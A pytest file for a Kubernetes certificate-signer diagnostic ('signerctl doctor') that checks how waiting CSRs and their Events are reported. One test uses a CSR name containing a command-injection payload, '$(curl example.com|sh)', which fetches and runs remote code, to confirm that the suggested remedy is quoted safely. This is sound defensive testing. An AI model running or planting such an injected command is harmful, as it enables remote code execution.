"""doctor says which CSRs wait, and what the function reports about the oldest one."""

from datetime import timedelta
from typing import Any

import pytest

from signerctl.doctor import waiting
from signerctl.doctor.examination import Examination
from signerctl.objects import CSRS
from tests.unit.function.builders import make_csr_object
from tests.unit.signerctl.answers import Answers
from tests.unit.signerctl.doctor.conftest import Examine
from tests.unit.signerctl.doctor.healthy import EVENTS
from tests.unit.signerctl.stage import SIGNER_NAME

Json = dict[str, Any]
OLDER, NEWER = "00000000-0000-4000-8000-000000000001", "00000000-0000-4000-8000-000000000002"


def csr(examination: Examination, uid: str, age: int, **changes: Any) -> Json:
    """Returns a CSR that was created this many seconds ago."""
    created = (examination.now - timedelta(seconds=age)).strftime("%Y-%m-%dT%H:%M:%SZ")
    return make_csr_object(
        **{"name": f"csr-{uid[-1]}", "uid": uid, "signer_name": SIGNER_NAME, "created": created, **changes}
    )


def event(uid: str, reason: str, **changes: str) -> Json:
    """Returns the function's Event on a CSR."""
    involved = {"kind": "CertificateSigningRequest", "name": "any", "uid": uid}
    message, time = f"message of {reason}", "2026-11-27T00:00:00Z"
    found = {"reason": reason, "message": message, "lastTimestamp": time, "reportingComponent": "kms-csr-signer"}
    return {"involvedObject": involved, **found, **changes}


def prepare(api: Answers, csrs: list[Json], *events: Json) -> None:
    """Puts CSRs and Events into the cluster."""
    api.prepared |= {f"GET {CSRS}": (200, {"items": csrs}), EVENTS: (200, {"items": list(events)})}


OVER: dict[str, Json] = {
    "issued": {"certificate": b"any"},
    "denied": {"conditions": [{"type": "Denied", "status": "True", "reason": "Any"}]},
    "failed": {"conditions": [{"type": "Failed", "status": "True", "reason": "Any"}]},
}


@pytest.mark.parametrize("changes", OVER.values(), ids=OVER)
def test_a_csr_that_is_over_does_not_wait(examine: Examine, api: Answers, changes: Json) -> None:
    """Its age does not matter."""
    examination = examine()
    prepare(api, [csr(examination, OLDER, 3600, **changes)])
    assert waiting.waiting(examination).level == "ok"


def test_a_young_csr_does_not_wait(examine: Examine, api: Answers) -> None:
    """An honest CSR needs some seconds, and the function writes no Event before."""
    examination = examine()
    prepare(api, [csr(examination, OLDER, 5)])
    assert waiting.waiting(examination).level == "ok"


def test_the_remedys_command_is_safe_to_copy(examine: Examine, api: Answers) -> None:
    """A requester chooses the CSR's name."""
    examination = examine()
    prepare(api, [csr(examination, OLDER, 60, name="$(curl example.com|sh)")])
    assert "signerctl explain 'csr/$(curl example.com|sh)'" in waiting.waiting(examination).remedy


REASONS = {"WaitingForOperator": "error", "WaitingForRequester": "warning", "WaitingForService": "error"}


@pytest.mark.parametrize(("reason", "level"), REASONS.items())
def test_the_last_event_on_the_oldest_csr_is_told(examine: Examine, api: Answers, *, reason: str, level: str) -> None:
    """While the requester must act, the deployment is well. Other programs' Events and earlier ones do not count."""
    examination = examine()
    csrs = [csr(examination, NEWER, 60), csr(examination, OLDER, 3600)]
    prepare(
        api,
        csrs,
        event(OLDER, reason, lastTimestamp="2026-11-27T00:01:00Z"),
        event(OLDER, "WaitingForService", message="earlier"),
        event(OLDER, "WaitingForOperator", reportingComponent="another", lastTimestamp="2026-11-27T00:02:00Z"),
        event(NEWER, "WaitingForOperator"),
    )
    outcome = waiting.waiting(examination)
    assert outcome.level == level
    of = 'an Event on "csr-1", of "2026-11-27T00:01:00Z", says'
    assert outcome.found == f'2 CSRs wait; {of} {reason}: "message of {reason}"'


def test_a_csr_about_which_the_function_is_silent_is_a_warning(examine: Examine, api: Answers) -> None:
    """The cause is on its way; explain looks for it."""
    examination = examine()
    prepare(api, [csr(examination, OLDER, 60)], event(NEWER, "WaitingForOperator"))
    outcome = waiting.waiting(examination)
    assert outcome.level == "warning"
    assert "signerctl explain" in outcome.remedy
